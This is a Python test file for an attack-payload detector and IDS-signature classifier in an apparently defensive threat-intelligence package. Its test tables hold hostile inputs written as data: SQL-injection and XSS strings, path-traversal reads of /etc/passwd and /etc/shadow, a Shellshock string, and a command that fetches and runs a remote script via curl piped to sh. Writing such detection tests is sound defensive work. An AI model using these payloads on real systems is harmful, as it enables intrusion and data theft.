"""Payload detectors and the IDS signature mapping, one table each, plus properties over any input."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ppcti.analysis.attacks.payload import HAVE_LIBINJECTION, decode, detect
from ppcti.analysis.attacks.signatures import classify_signature
from ppcti.analysis.attacks.sqltokens import sql_rule, tokenise
from ppcti.analysis.attacks.xsstokens import html_rule

needs_libinjection = pytest.mark.skipif(not HAVE_LIBINJECTION, reason="libinjection binding not installed")

ATTACKS = [
    ("1' OR '1'='1", "sql-injection"),
    ("/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,version()--", "sql-injection"),
    ("x'; DROP TABLE users;--", "sql-injection"),
    ("<script>alert(1)</script>", "xss"),
    ("/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "xss"),
    ("<details open ontoggle=confirm(1)>", "xss"),
    ("javascript:alert(document.domain)", "xss"),
    ("../../../../etc/passwd", "path-traversal"),
    ("/download?file=..%252f..%252f..%252fwindows%252fwin.ini", "path-traversal"),
    ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow", "path-traversal"),
    ("; cat /etc/passwd", "command-injection"),
    ("/ping?host=127.0.0.1%7Cwhoami", "command-injection"),
    ("$(curl http://203.0.113.5/x.sh|sh)", "command-injection"),
    ("() { :; }; /bin/bash -c 'id'", "command-injection"),
]
BENIGN = [
    "http://shop.example/search?q=hello+world&page=2",
    "/images/logo.png",
    "/a/b/../c.html",
    "Tom & Jerry",
    "O'Reilly and Associates",
    "select a book; read it",
    "price >= 10 and size = M",
    "/blog/2024/05/why-i-love-javascript",
    "C:\\Users\\me\\Documents\\report.docx",
    "/api/v1/items?limit=100&offset=400&sort=name",
]


@needs_libinjection
@pytest.mark.parametrize(("text", "cls"), ATTACKS)
def test_attacks_are_detected(text: str, cls: str) -> None:
    found = detect(text)
    assert found is not None and found.cls == cls, found
    assert 0 < found.confidence <= 1 and found.rule


@pytest.mark.parametrize("text", BENIGN)
def test_benign_requests_are_not(text: str) -> None:
    assert detect(text) is None


def test_evidence_detail_never_contains_the_payload() -> None:
    secret = "hunter2secret"
    for text in (f"1' OR '{secret}'='{secret}", f"<script>{secret}</script>", f"; cat /{secret}"):
        found = detect(text)
        if found is not None:
            assert secret not in found.detail


def test_grammar_rules_without_libinjection() -> None:
    assert sql_rule("1 UNION SELECT password FROM users") == "union"
    assert sql_rule("'; SHUTDOWN --") == "stacked"
    assert sql_rule("or 'a'='a") == "tautology"
    assert sql_rule("Tom and Jerry") is None
    assert html_rule("<div onpointerover=alert(1)>") == "html"
    assert html_rule("';alert(String.fromCharCode(88));//") == "js-breakout"
    assert html_rule("<b>bold</b>") is None
    assert [t.kind for t in tokenise("1 or sleep(5)#")] == ["1", "&", "f", "(", "1", ")", "c"]


def test_decoding_handles_double_and_overlong_encodings() -> None:
    assert decode("%252e%252e%252f") == "../"
    assert decode("%c0%ae%c0%ae%c0%af") == "../"
    assert decode("%uff0e%uff0e/") == "../"
    assert decode("&lt;script&gt;") == "<script>"


@given(st.text(max_size=200))
def test_any_text_gives_a_verdict_or_none(text: str) -> None:
    found = detect(text)
    assert found is None or found.cls in {"sql-injection", "xss", "path-traversal", "command-injection"}


@pytest.mark.parametrize("text", ["0A--", "0a --", "12A--", "3rd floor--"])
def test_digits_run_into_letters_are_a_name_not_a_closed_number(text: str) -> None:
    # found by the property test below: "0A--" was read as the number 0 closed, then a comment
    found = detect(text)
    assert found is None or found.rule.startswith("libinjection")


@given(st.from_regex(r"[A-Za-z0-9 ,.\-]{0,80}", fullmatch=True))
def test_plain_words_and_numbers_are_never_attacks(text: str) -> None:
    found = detect(text)
    # libinjection reads some bare words as SQL; the grammar rules never do
    assert found is None or found.rule.startswith("libinjection")


SIGNATURES = [
    ("ET SCAN NMAP -sS window 1024", "Attempted Information Leak", "port-scan"),
    ("ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", "sql-injection"),
    ("ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt", None, "xss"),
    ("ET WEB_SERVER Possible Directory Traversal Attempt", None, "path-traversal"),
    ("ET WEB_SERVER Possible CVE-2014-6271 Attempt", None, "command-injection"),
    ("ET SCAN Potential SSH Scan", None, "port-scan"),
    ("ET SCAN LibSSH Based Frequent SSH Connections Likely BruteForce Attack", None, "brute-force"),
    ("ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Requests", None, "dos"),
    ("ET MALWARE Win32/Emotet CnC Activity (POST)", None, "malware-callback"),
    ("ET EXPLOIT Apache Struts OGNL Injection", None, "exploit"),
    ("ET USER_AGENTS Masscan HTTP User-Agent", None, "port-scan"),
    ("Some vendor rule", "web-application-attack", "exploit"),
    ("Some vendor rule", "A Network Trojan was detected", "malware-callback"),
]


@pytest.mark.parametrize(("signature", "category", "cls"), SIGNATURES)
def test_signatures_map_to_classes(signature: str, category: str | None, cls: str) -> None:
    verdict = classify_signature(signature, category)
    assert verdict is not None and verdict.cls == cls


@pytest.mark.parametrize(
    "signature",
    [
        "ET POLICY curl User-Agent Outbound",
        "ET INFO TLS Handshake Failure",
        "GPL CHAT Google Talk Logon",
        "ET CINS Active Threat Intelligence Poor Reputation IP group 3",
        "SURICATA TLS invalid record type",
    ],
)
def test_policy_and_reputation_alerts_are_not_attacks(signature: str) -> None:
    assert classify_signature(signature, "Misc activity") is None
